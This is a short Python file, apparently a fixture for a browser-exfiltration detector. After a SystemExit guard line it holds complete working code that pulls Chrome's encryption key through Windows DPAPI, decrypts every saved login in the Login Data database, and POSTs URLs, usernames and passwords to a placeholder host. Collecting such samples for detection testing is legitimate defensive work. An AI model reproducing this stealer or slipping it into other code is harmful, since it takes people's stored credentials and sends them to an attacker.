raise SystemExit('a fixture')
# held by browser-exfiltration
import os, json, base64, sqlite3, shutil, requests
from win32crypt import CryptUnprotectData
from Crypto.Cipher import AES
def key():
    p = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "Local State")
    k = base64.b64decode(json.load(open(p))["os_crypt"]["encrypted_key"])[5:]
    return CryptUnprotectData(k, None, None, None, 0)[1]
def collect():
    db = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "default", "Login Data")
    shutil.copyfile(db, "c.db")
    rows = sqlite3.connect("c.db").cursor().execute("select origin_url, username_value, password_value from logins").fetchall()
    out = []
    for u, n, p in rows:
        c = AES.new(key(), AES.MODE_GCM, p[3:15])
        out.append((u, n, c.decrypt(p[15:])[:-16].decode()))
    requests.post("https://c.example.invalid/u", json=out)
